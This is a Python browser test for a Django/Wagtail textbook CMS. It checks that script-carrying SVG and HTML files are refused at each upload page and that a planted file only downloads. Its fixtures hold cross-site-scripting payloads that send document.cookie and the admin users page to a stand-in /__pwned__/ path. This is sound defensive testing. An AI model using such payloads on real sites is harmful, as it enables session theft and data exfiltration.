"""An SVG and an HTML file carrying scripts, uploaded through every upload page as a user would
(the version's manuscript and attachments, Wagtail documents and images, the catalogue and
course-standard imports): each is refused with a Chinese message and nothing is stored. A file
that reached the store before these checks (planted directly) is opened by an organiser and
downloads as a sandboxed attachment. No script runs on the site's origin: every payload calls
home to /__pwned__/, and the browser never requests it.
"""

import re

import pytest
from django.core.files.base import ContentFile

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True, serialized_rollback=True)]

SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/__pwned__/svg-onload\')">'
    b"<script>fetch('/__pwned__/svg-script?'+document.cookie)</script></svg>"
)
HTML = (
    b"<!DOCTYPE html><html><body><script>fetch('/__pwned__/html?'+document.cookie);"
    b"fetch('/admin/users/').then(r=>r.text()).then(t=>fetch('/__pwned__/users',{method:'POST',body:t}))"
    b"</script></body></html>"
)


@pytest.fixture
def hostile_files(tmp_path):
    files = {}
    for name, data in {
        "电路图.svg": SVG,
        "说明.html": HTML,
        "伪装书稿.docx": HTML,
        "伪装图片.png": SVG,
        "伪装目录.xlsx": HTML,
        "伪装文档.pdf": SVG,
    }.items():
        (tmp_path / name).write_bytes(data)
        files[name] = str(tmp_path / name)
    return files


def watch_for_scripts(person):
    called_home = []
    person.context.on("request", lambda request: "/__pwned__/" in request.url and called_home.append(request.url))
    return called_home


def error_text(page):
    return " ".join(page.locator(".error-message, .help-critical, .messages .error, .w-field__errors").all_inner_texts())


def test_svg_and_html_with_scripts_are_refused_everywhere_and_never_run(demo_world, people, hostile_files, django_user_model):
    from cms.demo import DEMO_PASSWORD
    from tests.review.conftest import ReviewWorld
    from textbooks.models import VersionAttachment

    world = ReviewWorld()
    version = world.textbook_version("电工电子技术基础（实训图册）")
    world.author_user.set_password(DEMO_PASSWORD)
    world.author_user.save()
    attachments_before = VersionAttachment.objects.count()
    manuscript_before = version.manuscript.name

    author = people("hostile-author").login("leak_author")
    called_home = watch_for_scripts(author)
    page = author.visit(f"/admin/textbooks/versions/edit/{version.pk}/")
    page.set_input_files("input[name=manuscript]", hostile_files["伪装书稿.docx"])
    page.locator("form[enctype] button[type=submit]").first.click()
    page.wait_for_load_state()
    author.shot("manuscript-html-refused")
    assert "网页" in error_text(page) or "网页" in page.content()
    version.refresh_from_db()
    assert version.manuscript.name == manuscript_before

    page = author.visit(f"/admin/textbooks/versions/edit/{version.pk}/")
    for name in ("电路图.svg", "说明.html", "伪装图片.png"):
        page.set_input_files("input[type=file][name^=attachments-][name$=-file]", hostile_files[name])
        page.locator("form[enctype] button[type=submit]").first.click()
        page.wait_for_load_state()
        assert re.search("网页|SVG|脚本", page.content()), name
        page = author.visit(f"/admin/textbooks/versions/edit/{version.pk}/")
    author.shot("attachments-refused")
    assert VersionAttachment.objects.count() == attachments_before

    admin = people("hostile-admin").login("admin")
    called_home += watch_for_scripts(admin)
    page = admin.visit("/admin/documents/add/")
    for name in ("说明.html", "伪装文档.pdf"):
        page.fill("#id_title", name)
        page.set_input_files("#id_file", hostile_files[name])
        page.locator("form[enctype] button[type=submit]").first.click()
        page.wait_for_load_state()
        page = admin.visit("/admin/documents/add/") if "/add/" not in page.url else page
    admin.shot("documents-refused")
    from wagtail.documents import get_document_model

    assert not get_document_model().objects.exists()

    page = admin.visit("/admin/images/add/")
    page.fill("#id_title", "电路图")
    page.set_input_files("#id_file", hostile_files["电路图.svg"])
    page.locator("form[enctype] button[type=submit]").first.click()
    page.wait_for_load_state()
    admin.shot("image-refused")
    from wagtail.images import get_image_model

    assert not get_image_model().objects.filter(title__contains="电路图").exists()

    hrss = people("hostile-hrss").login("hrss")
    called_home += watch_for_scripts(hrss)
    page = hrss.visit("/admin/textbooks/catalogues/import/")
    page.set_input_files("input[name=file]", hostile_files["伪装目录.xlsx"])
    page.locator("form[enctype] button[type=submit]").first.click()
    page.wait_for_load_state()
    hrss.shot("catalogue-import-refused")
    assert "网页" in page.content()

    # A file stored before these checks existed: opened, it downloads; nothing renders or runs.
    planted = VersionAttachment.objects.create(
        version=version, title="旧资源", file=ContentFile(HTML, name="旧资源.html")
    )
    page = author.visit(f"/admin/textbooks/versions/edit/{version.pk}/")
    with page.expect_download() as download:
        page.evaluate("url => { const a = document.createElement('a'); a.href = url; document.body.appendChild(a); a.click(); }", planted.file.url)
    assert download.value.suggested_filename == "旧资源.html"
    page.goto(f"/admin/textbooks/versions/edit/{version.pk}/")
    page.wait_for_timeout(500)

    assert called_home == []
